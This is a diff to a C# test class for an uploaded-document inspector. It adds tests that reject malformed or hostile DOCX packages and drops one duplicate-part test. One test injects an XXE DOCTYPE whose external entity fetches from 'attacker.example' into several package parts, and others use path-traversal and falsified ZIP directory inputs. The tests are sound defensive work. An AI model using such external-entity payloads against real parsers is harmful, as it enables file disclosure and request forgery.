@@ -11,6 +11,7 @@ public sealed partial class DocumentInspectorTests
         IntakeCodes.EmptyFile, IntakeCodes.TooLarge, IntakeCodes.UnsupportedType, IntakeCodes.MacroEnabled,
         IntakeCodes.ExternalRelationship, IntakeCodes.AltChunk, IntakeCodes.DangerousField, IntakeCodes.ZipBomb,
         IntakeCodes.CorruptPackage, IntakeCodes.Dtd, IntakeCodes.PdfActiveContent, IntakeCodes.PdfBadHeader,
+        IntakeCodes.InvalidPartName, IntakeCodes.ExtensionMismatch, IntakeCodes.PdfUnreadable,
     ];
 
     [Fact]
@@ -31,14 +32,6 @@ public sealed partial class DocumentInspectorTests
     public void Inspect_PackageWithoutWordDocumentXml_IsCorruptPackage()
     {
         AssertRefused(Inspect(new DocxBuilder { WithDocument = false }.Build()), IntakeCodes.CorruptPackage);
-    }
-
-    [Fact]
-    public void Inspect_DuplicatePartNames_IsCorruptPackage()
-    {
-        var bytes = ZipBytes.Of(("[Content_Types].xml", "<Types/>"), ("word/document.xml", "<a/>"), ("WORD/document.xml", "<b/>"));
-
-        AssertRefused(Inspect(bytes), IntakeCodes.CorruptPackage);
     }
 
     [Fact]
@@ -109,6 +102,75 @@ public sealed partial class DocumentInspectorTests
         var bytes = new DocxBuilder { WithDocument = false }.Part("word/document.xml", Encoding.Unicode.GetPreamble().Concat(Encoding.Unicode.GetBytes(xml)).ToArray()).Build();
 
         AssertRefused(Inspect(bytes), IntakeCodes.Dtd);
+    }
+
+    [Fact]
+    public void Inspect_PackageWithoutContentTypes_IsCorruptPackage()
+    {
+        var result = Inspect(new DocxBuilder { WithContentTypes = false }.Build());
+
+        AssertRefused(result, IntakeCodes.CorruptPackage);
+        Assert.Contains("[Content_Types].xml", result.Reason, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Inspect_PackageThatNamesNoMainDocument_IsCorruptPackage()
+    {
+        AssertRefused(Inspect(new DocxBuilder { WithMainRelationship = false }.Build()), IntakeCodes.CorruptPackage);
+    }
+
+    [Fact]
+    public void Inspect_PackageThatNamesTwoMainDocuments_IsCorruptPackage()
+    {
+        var bytes = new DocxBuilder().PackageRelationship("rId2", "officeDocument", "word/other.xml")
+            .Part("word/other.xml", $"<w:document xmlns:w=\"{DocxBuilder.W}\"><w:body/></w:document>").Build();
+
+        var result = Inspect(bytes);
+
+        AssertRefused(result, IntakeCodes.CorruptPackage);
+        Assert.Contains("more than one main document", result.Reason, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Inspect_MainDocumentRelationshipThatClimbsOutOfThePackage_IsCorruptPackage()
+    {
+        var bytes = new DocxBuilder { WithMainRelationship = false }.PackageRelationship("rId1", "officeDocument", "../word/document.xml").Build();
+
+        AssertRefused(Inspect(bytes), IntakeCodes.CorruptPackage);
+    }
+
+    [Fact]
+    public void Inspect_ZipWhoseDirectoryDeclaresMoreEntriesThanItHolds_IsCorruptPackage()
+    {
+        var bytes = ZipBytes.WithDeclaredEntryCount(new DocxBuilder().Build(), 40);
+
+        AssertRefused(Inspect(bytes), IntakeCodes.CorruptPackage);
+    }
+
+    [Theory]
+    [InlineData("[Content_Types].xml")]
+    [InlineData("_rels/.rels")]
+    [InlineData("word/styles.xml")]
+    [InlineData("customXml/item1.xml")]
+    [InlineData("docProps/core.xml")]
+    public void Inspect_DtdOrExternalEntityInAnyPart_IsDtd(string partName)
+    {
+        const string doctype = "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY % remote SYSTEM \"https://attacker.example/x.dtd\"> %remote;]>";
+        var honest = new DocxBuilder().Part("word/styles.xml", $"<w:styles xmlns:w=\"{DocxBuilder.W}\"/>").Part("customXml/item1.xml", "<item/>")
+            .Part("docProps/core.xml", "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\"/>").Build();
+        var original = PartText(honest, partName);
+        var hostile = ZipBytes.WithContent(honest, partName, doctype + original[(original.IndexOf("?>", StringComparison.Ordinal) is var end and >= 0 ? end + 2 : 0)..]);
+
+        var result = Inspect(hostile);
+
+        AssertRefused(result, IntakeCodes.Dtd);
+    }
+
+    private static string PartText(byte[] zip, string partName)
+    {
+        using var archive = new System.IO.Compression.ZipArchive(new MemoryStream(zip), System.IO.Compression.ZipArchiveMode.Read);
+        using var reader = new StreamReader(archive.GetEntry(partName)!.Open(), Encoding.UTF8);
+        return reader.ReadToEnd();
     }
 
     [Fact]
